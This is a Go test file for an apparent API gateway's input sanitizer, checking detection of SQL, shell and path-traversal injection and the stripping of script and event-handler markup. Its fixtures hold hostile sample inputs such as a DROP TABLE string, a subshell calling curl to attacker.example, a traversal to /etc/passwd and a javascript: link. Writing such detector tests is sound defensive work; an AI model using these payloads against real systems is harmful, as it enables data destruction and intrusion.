package sanitize

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"lanonasis-gateway/internal/gwerrors"
)

func TestDetectInjectionSignatures(t *testing.T) {
	tests := []struct {
		name     string
		args     map[string]interface{}
		category string
	}{
		{
			name:     "sql drop table",
			args:     map[string]interface{}{"title": "'; DROP TABLE users;--"},
			category: CategorySQLInjection,
		},
		{
			name:     "sql union select",
			args:     map[string]interface{}{"query": "x' UNION SELECT password FROM accounts"},
			category: CategorySQLInjection,
		},
		{
			name:     "shell chained command",
			args:     map[string]interface{}{"name": "report; rm -rf /tmp/data"},
			category: CategoryShellInjection,
		},
		{
			name:     "shell subshell",
			args:     map[string]interface{}{"name": "$(curl attacker.example)"},
			category: CategoryShellInjection,
		},
		{
			name:     "path traversal",
			args:     map[string]interface{}{"path": "../../etc/passwd"},
			category: CategoryPathTraversal,
		},
		{
			name:     "traversal encoded",
			args:     map[string]interface{}{"path": "%2e%2e%2fsecrets"},
			category: CategoryPathTraversal,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			category, found := Detect(tc.args)
			require.True(t, found)
			assert.Equal(t, tc.category, category)
		})
	}
}

func TestDetectAllowsOrdinaryContent(t *testing.T) {
	args := map[string]interface{}{
		"title":   "Quarterly report",
		"content": "Sales grew 4% this quarter.\n\nNext steps are listed below.",
		"tags":    []interface{}{"report", "q3"},
	}
	_, found := Detect(args)
	assert.False(t, found)
}

func TestCleanEscapesPlainFields(t *testing.T) {
	out := Clean(map[string]interface{}{
		"title": "  <b>hello</b>  ",
	})
	assert.Equal(t, "&lt;b&gt;hello&lt;/b&gt;", out["title"])
}

func TestCleanPreservesContentFormatting(t *testing.T) {
	content := "# Heading\n\n  indented line\n<script>alert(1)</script>rest"
	out := Clean(map[string]interface{}{"content": content})

	cleaned, ok := out["content"].(string)
	require.True(t, ok)
	assert.Equal(t, "# Heading\n\n  indented line\nrest", cleaned)
}

func TestCleanStripsActiveMarkupFromContent(t *testing.T) {
	out := Clean(map[string]interface{}{
		"description": "click <a href=\"javascript:steal()\" onclick=doit()>here</a>\x00",
	})
	cleaned := out["description"].(string)
	assert.NotContains(t, cleaned, "javascript:")
	assert.NotContains(t, cleaned, "onclick")
	assert.NotContains(t, cleaned, "\x00")
	assert.Contains(t, cleaned, "here</a>")
}

func TestCleanWalksNestedStructures(t *testing.T) {
	out := Clean(map[string]interface{}{
		"metadata": map[string]interface{}{
			"text":  "keep\nlines",
			"label": " <i>x</i> ",
		},
		"tags": []interface{}{" <tag> ", "ok"},
	})

	meta := out["metadata"].(map[string]interface{})
	assert.Equal(t, "keep\nlines", meta["text"])
	assert.Equal(t, "&lt;i&gt;x&lt;/i&gt;", meta["label"])

	tags := out["tags"].([]interface{})
	assert.Equal(t, "&lt;tag&gt;", tags[0])
	assert.Equal(t, "ok", tags[1])
}

func TestCleanLeavesInputUntouched(t *testing.T) {
	in := map[string]interface{}{"title": " <b>x</b> "}
	_ = Clean(in)
	assert.Equal(t, " <b>x</b> ", in["title"])
}

func TestScrubRejectsInjectionVaguely(t *testing.T) {
	out, gerr := Scrub(map[string]interface{}{"title": "'; DROP TABLE users;--"})

	require.NotNil(t, gerr)
	assert.Nil(t, out)
	assert.Equal(t, gwerrors.KindInvalidInput, gerr.Kind)
	assert.NotContains(t, gerr.Message, "sql")
	assert.NotContains(t, gerr.Message, "DROP")
}

func TestScrubCleansAcceptedBody(t *testing.T) {
	out, gerr := Scrub(map[string]interface{}{"title": " plain "})
	require.Nil(t, gerr)
	assert.Equal(t, "plain", out["title"])
}
